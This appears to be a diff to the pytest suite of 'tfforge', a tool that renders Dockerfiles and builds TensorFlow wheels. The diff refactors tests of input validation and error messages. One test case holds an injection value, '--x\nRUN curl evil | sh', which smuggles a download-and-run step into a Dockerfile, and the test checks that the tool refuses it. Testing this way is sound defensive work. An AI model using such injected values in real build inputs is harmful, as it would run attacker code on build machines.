@@ -18,7 +18,6 @@ from faults import invoke_disk_full
 from invoke.exceptions import Exit
 
 from tfforge import files
-from tfforge.commands import build, detect
 from tfforge.commands import runner as cli
 from tfforge.errors import ConfigError
 
@@ -45,14 +44,16 @@ def cli_error(proc: subprocess.CompletedProcess, *needles: str) -> str:
     return last
 
 
+def task(name: str):
+    """Task `name` as the command line runs it, with flags as keywords."""
+    return lambda **given: cli.run_task(name, given)
+
+
+render, build = task("render"), task("build")
+
+
 def detect_json(**kw):
-    return detect.detect_command(
-        as_json=True,
-        save=kw.pop("save", None),
-        cpuinfo=kw.pop("cpuinfo", str(CPUINFO)),
-        gcc_version=kw.pop("gcc_version", None),
-        probe_tf=False,
-    )
+    return cli.run_task("detect", {"json": True, "no_tf": True, "cpuinfo": str(CPUINFO), **kw})
 
 
 # ---- regular files only ---------------------------------------------------------------------
@@ -116,37 +117,33 @@ def test_errors_name_the_environment_variable_or_toml_key(tmp_path, monkeypatch)
     monkeypatch.setenv("TFFORGE_ROOT", str(tmp_path))
     monkeypatch.chdir(tmp_path)
     monkeypatch.setenv("TFFORGE_MKL", "maybe")
-    assert "TFFORGE_MKL" in one_line(build.render_command, {"target": "haswell"})
+    assert "TFFORGE_MKL" in one_line(render, target="haswell")
     monkeypatch.delenv("TFFORGE_MKL")
-    monkeypatch.setenv("TFFORGE_GCC_VERSION", "abc")
-    assert "TFFORGE_GCC_VERSION" in one_line(detect_json)
-    assert "TFFORGE_GCC_VERSION" in one_line(build.render_command, {"target": "haswell"})
-    monkeypatch.delenv("TFFORGE_GCC_VERSION")
+    monkeypatch.setenv("TFFORGE_MATCH_GCC_VERSION", "abc")
+    assert "TFFORGE_MATCH_GCC_VERSION" in one_line(detect_json)
+    monkeypatch.delenv("TFFORGE_MATCH_GCC_VERSION")
+    monkeypatch.setenv("TFFORGE_BUILD_GCC_VERSION", "abc")
+    assert "TFFORGE_BUILD_GCC_VERSION" in one_line(render, target="haswell")
+    monkeypatch.delenv("TFFORGE_BUILD_GCC_VERSION")
     (tmp_path / "tfforge.toml").write_text('[tfforge]\nbase_image = "UPPER/case"\n')
-    assert "tfforge.toml key 'base_image'" in one_line(build.render_command, {"target": "haswell"})
+    assert "tfforge.toml key 'base_image'" in one_line(render, target="haswell")
     (tmp_path / "tfforge.toml").write_text("[tfforge]\nbuild_timeout = true\n")
-    assert "'build_timeout'" in one_line(build.build_command, {"target": "haswell"}, dry_run=True)
+    assert "'build_timeout'" in one_line(build, target="haswell", dry_run=True)
     (tmp_path / "tfforge.toml").write_text("[tfforge]\nserve_port = 70000\n")
-    from tfforge.commands import serve
-
-    assert "tfforge.toml key 'serve_port'" in one_line(serve.serve_command)
+    assert "tfforge.toml key 'serve_port'" in one_line(task("serve"))
     (tmp_path / "tfforge.toml").write_text("[tfforge]\npublish_timeout = 0\n")
-    from tfforge.commands import publish
-
     assert "tfforge.toml key 'publish_timeout'" in one_line(
-        publish.publish_command, ["x.whl"], repository="http://127.0.0.1:1/"
+        task("publish"), wheels="x.whl", repository="http://127.0.0.1:1/"
     )
     (tmp_path / "tfforge.toml").write_text("[tfforge]\nbuild_timeout = -5\n")
-    assert "'build_timeout'" in one_line(build.build_command, {"target": "haswell"}, dry_run=True)
+    assert "'build_timeout'" in one_line(build, target="haswell", dry_run=True)
     assert not (tmp_path / "builds").exists()
 
 
 @pytest.mark.parametrize("timeout", ["nan", "1e400", "-inf", "0"])
 def test_build_timeout_must_be_finite_and_positive(tmp_path, monkeypatch, timeout):
     monkeypatch.setenv("TFFORGE_ROOT", str(tmp_path))
-    assert "--timeout" in one_line(
-        build.build_command, {"target": "haswell"}, dry_run=True, timeout=timeout
-    )
+    assert "--timeout" in one_line(build, target="haswell", dry_run=True, timeout=timeout)
     assert not (tmp_path / "builds").exists()
 
 
@@ -154,8 +151,8 @@ def test_build_timeout_must_be_finite_and_positive(tmp_path, monkeypatch, timeou
 @pytest.mark.parametrize(
     "options, needle",
     [
-        ({"bazel_args": ["--jobs=4\n"]}, "--bazel-arg"),
-        ({"bazel_args": ["--x\nRUN curl evil | sh"]}, "--bazel-arg"),
+        ({"bazel_arg": ["--jobs=4\n"]}, "--bazel-arg"),
+        ({"bazel_arg": ["--x\nRUN curl evil | sh"]}, "--bazel-arg"),
         ({"base_image": "UPPER/case"}, "--base-image"),
         ({"remote_cache": "http://cache.example.com/a\nb"}, "--remote-cache"),
         ({"gcc_version": "\u0661\u0662"}, "--gcc-version"),
@@ -163,17 +160,17 @@ def test_build_timeout_must_be_finite_and_positive(tmp_path, monkeypatch, timeou
 )
 def test_values_reaching_the_dockerfile_must_match_whole(tmp_path, monkeypatch, options, needle):
     monkeypatch.setenv("TFFORGE_ROOT", str(tmp_path))
-    assert needle in one_line(build.render_command, {"target": "haswell", **options})
+    assert needle in one_line(render, target="haswell", **options)
     assert not (tmp_path / "builds").exists()
 
 
 def test_registry_hosts_may_be_uppercase_repositories_not(tmp_path, monkeypatch):
-    from tfforge.build import spec
+    from tfforge.build import inputs
 
-    assert spec.check_image_ref("Registry.Example.com:5000/team/img:1") is False
-    assert spec.check_image_ref("localhost/img") is False
+    assert inputs.check_image_ref("Registry.Example.com:5000/team/img:1") is False
+    assert inputs.check_image_ref("localhost/img") is False
     with pytest.raises(ConfigError):
-        spec.check_image_ref("Team/img")
+        inputs.check_image_ref("Team/img")
 
 
 def test_source_dir_with_an_undecodable_file_name(tmp_path, monkeypatch):
@@ -182,7 +179,7 @@ def test_source_dir_with_an_undecodable_file_name(tmp_path, monkeypatch):
     src.mkdir()
     (src / "ok.py").write_text("x = 1\n")
     os.close(os.open(os.path.join(os.fsencode(src), b"caf\xe9.py"), os.O_CREAT | os.O_WRONLY))
-    message = one_line(build.render_command, {"target": "haswell", "source_dir": str(src)})
+    message = one_line(render, target="haswell", source_dir=str(src))
     assert "not UTF-8" in message and "caf" in message
     assert not (tmp_path / "builds").exists()
 
@@ -201,15 +198,15 @@ def test_save_onto_a_folder_under_a_file_or_unwritable(tmp_path):
 
 def test_a_build_folder_that_is_a_file_or_link(tmp_path, monkeypatch):
     monkeypatch.setenv("TFFORGE_ROOT", str(tmp_path))
-    build_id = build.render_command({"target": "haswell"}, as_json=True)["id"]
+    build_id = render(target="haswell", json=True)["id"]
     final = tmp_path / "builds" / build_id
     shutil.rmtree(final)
     final.write_text("mine\n")
-    assert "is a file or link" in one_line(build.render_command, {"target": "haswell"})
+    assert "is a file or link" in one_line(render, target="haswell")
     assert final.read_text() == "mine\n"
     final.unlink()
     final.symlink_to(tmp_path / "nowhere")
-    assert "is a file or link" in one_line(build.render_command, {"target": "haswell"})
+    assert "is a file or link" in one_line(render, target="haswell")
     assert not (tmp_path / "nowhere").exists()
 
 
@@ -237,7 +234,7 @@ def test_project_and_cache_places_that_are_not_folders(tmp_path, monkeypatch, wh
         (paths.cache_dir("verify") if place == "cache" else paths.builds_dir())
     assert str(target) in str(info.value)
     if place != "cache":
-        one_line(build.render_command, {"target": "haswell"})
+        one_line(render, target="haswell")
     assert not (tmp_path / "nowhere").exists()
 
 
@@ -265,24 +262,20 @@ def test_full_disk_leaves_nothing_behind(tmp_path):
 
 # ---- flags invoke mis-parses, exit codes, Ctrl-C ------------------------------------------------
 def test_engine_image_that_is_a_flag():
-    from tfforge.commands import engine
-
-    assert "--image" in one_line(engine.engine_command, image="--help")
+    assert "--image" in one_line(task("engine"), image="--help")
 
 
 def test_unusable_docker_client_is_refused_before_rendering(tmp_path, monkeypatch):
     monkeypatch.setenv("TFFORGE_ROOT", str(tmp_path))
     monkeypatch.setenv("TFFORGE_DOCKER", str(tmp_path / "no-docker"))
-    assert "docker client" in one_line(build.build_command, {"target": "haswell"})
+    assert "docker client" in one_line(build, target="haswell")
     assert not (tmp_path / "builds").exists()
 
 
 @pytest.mark.parametrize("url", ["http://127.0.0.1:abc/", "http://[::1/"])
 def test_publish_repository_with_a_bad_port(tmp_path, url):
-    from tfforge.commands import publish
-
     assert "--repository" in one_line(
-        publish.publish_command, [str(tmp_path / "x.whl")], repository=url
+        task("publish"), wheels=str(tmp_path / "x.whl"), repository=url
     )
 
 
@@ -318,11 +311,13 @@ def test_ctrl_c_while_starting_exits_130(tmp_path):
 
 # ---- bench's output folder ---------------------------------------------------------------
 def test_bench_out_onto_a_file_is_refused_before_running(tmp_path):
+    from conftest import options_for
+
     from tfforge.commands import bench
 
     (tmp_path / "out").write_text("mine\n")
     with pytest.raises(ConfigError, match="--out .*is a file"):
-        bench.bench_plan(["w.whl"], out_dir=str(tmp_path / "out"))
+        bench.bench_plan(options_for("bench", wheels="w.whl", out=str(tmp_path / "out")))
     assert (tmp_path / "out").read_text() == "mine\n"
 
 
@@ -353,5 +348,5 @@ def test_tfforge_toml_that_is_unusable(tmp_path, monkeypatch, kind, text, needle
         (tmp_path / "tfforge.toml").mkdir()
     else:
         (tmp_path / "tfforge.toml").write_bytes(text.encode("latin-1"))
-    assert needle in one_line(build.build_command, {"target": "haswell"}, dry_run=True)
+    assert needle in one_line(build, target="haswell", dry_run=True)
     assert not (tmp_path / "builds").exists()
